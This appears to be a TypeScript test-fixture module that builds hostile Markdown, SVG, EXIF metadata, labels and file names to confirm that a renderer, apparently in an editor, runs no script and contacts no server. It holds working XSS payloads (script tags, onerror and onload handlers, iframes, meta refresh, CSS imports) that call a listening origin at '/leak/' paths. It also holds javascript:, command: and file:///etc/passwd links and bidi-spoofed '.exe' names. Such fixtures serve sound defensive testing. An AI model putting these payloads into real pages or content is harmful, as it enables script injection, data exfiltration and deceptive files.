/** Runs nowhere, if all is well: it would leave a mark in the page and ask the listening server. */
function script(origin: string, name: string): string {
	return `globalThis.ran='${name}';alert('${name}');fetch('${origin}/leak/${name}')`;
}

/** Addresses that must open nothing by themselves, nor become links. */
export const deadAddresses: readonly string[] = [
	"javascript:alert('link')",
	"command:workbench.action.closeWindow",
	"vscode://file/etc/passwd",
	"file:///etc/passwd",
	"data:text/html,<script>alert('data')</script>",
	"blob:null/1",
];

/** Words that end every hostile answer: once they are shown, all before them is. */
export const theEnd = "The end.";

/**
 * An answer in Markdown with all that may run, load, lead away or turn its surroundings; `origin` is
 * a server that must hear of none of it.
 */
export function hostileMarkdown(origin: string): string {
	const image = (name: string) => `<img src="x" onerror="${script(origin, name)}">`;
	return [
		`<script>${script(origin, "script")}</script>`,
		`${image("img")} <svg onload="${script(origin, "svg")}"></svg>`,
		`<iframe src="${origin}/leak/iframe"></iframe><style>body{display:none}</style>`,
		`<link rel="stylesheet" href="${origin}/leak/style"><base href="${origin}/leak/base/">`,
		`<form action="${origin}/leak/form"><button autofocus>Send</button></form>`,
		`<meta http-equiv="refresh" content="0;url=${origin}/leak/refresh">`,
		`![picture](${origin}/leak/image.png) ![data](data:image/svg+xml,<svg/onload=alert(1)>)`,
		...deadAddresses.map((address, index) => `[dead ${index}](${address}) <${address}>`),
		`[dead by reference][ref] [go](${origin}/leak/link?words=${"a%20b".repeat(40)})`,
		"[ref]: command:workbench.action.closeWindow",
		`|${image("head")}|\n|-|\n|<a href="command:workbench.action.closeWindow">cell</a>|`,
		`\`\`\`"><img/src=x/onerror=alert(1)>\n</code></pre>${image("code")}\n\`\`\``,
		"# \u202eesrever\u2066 \u200b\u200b heading \u{e0041}",
		theEnd,
	].join("\n\n");
}

/** Labels and values that are text, whatever they look like. */
export function hostileLabels(origin: string): string[] {
	return [
		`<img src=x onerror="${script(origin, "label")}">`,
		`<script>${script(origin, "tag")}</script>`,
		`![x](${origin}/leak/label.png)`,
		"[x](command:workbench.action.closeWindow)",
		"\u202eelppa\u202c der\u2066",
		`zero\u200bwidth\u200b${"\u200b".repeat(1000)}`,
		`long ${Array.from({ length: 30_000 }, (_, index) => index).join(" ")}`,
		"many\nlines\r\nof\u2028it\t\0",
		"__proto__",
	];
}

/** File names that Linux takes. */
export const hostileNames = {
	html: "<img src=x onerror=alert('name')>.png",
	link: "[x](command:workbench.action.closeWindow).png",
	bidi: "photo\u202egnp.exe\u2066.png",
} as const;

/** A drawing that would run a script and load from everywhere. */
export function hostileSvg(origin: string): string {
	return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
	width="240" height="160" onload="${script(origin, "svg-onload")}">
	<script>${script(origin, "svg-script")}</script>
	<style>@import url("${origin}/leak/svg.css"); rect { fill: url("${origin}/leak/fill.svg#a") }</style>
	<rect width="240" height="160" style="fill: #ffffff"/>
	<image href="${origin}/leak/svg-image.png" width="240" height="160"/>
	<image xlink:href="file:///etc/hostname" width="240" height="160"/>
	<use href="${origin}/leak/svg-use.svg#a"/>
	<foreignObject width="240" height="160">
		<iframe xmlns="http://www.w3.org/1999/xhtml" src="${origin}/leak/svg-frame"></iframe>
	</foreignObject>
	<circle cx="120" cy="80" r="60" fill="#e02b2b"/>
</svg>`;
}

/** EXIF fields of those that viewers show. */
export function hostileExif(origin: string): Record<string, string> {
	return {
		ImageDescription: `<script>${script(origin, "exif")}</script>`,
		Artist: `<img src=x onerror="${script(origin, "artist")}">`,
		Copyright: "[x](command:workbench.action.closeWindow)",
		Make: "\u202eekam\u2066",
	};
}
